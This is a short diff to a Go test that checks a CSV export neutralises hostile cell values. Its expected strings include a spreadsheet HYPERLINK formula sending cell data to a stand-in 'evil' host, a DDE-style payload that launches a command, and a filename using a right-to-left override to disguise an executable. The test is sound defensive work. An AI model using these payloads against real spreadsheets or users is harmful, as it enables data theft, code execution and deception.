@@ -394,7 +394,7 @@ func TestExportHostileCellsAreNeutralised(t *testing.T) {
 		}
 	}
 	for _, want := range []string{`'=HYPERLINK("http://evil/?"&A1,"click")`, "'@SUM(1+1)*cmd|' /C calc'!A0",
-		"evilgnp.exe  X"} {
+		`evil\x1b\x1b\u202egnp.exe  X`} {
 		if !slices.Contains(names, want) {
 			t.Errorf("the CSV names are %q, want %q among them", names, want)
 		}
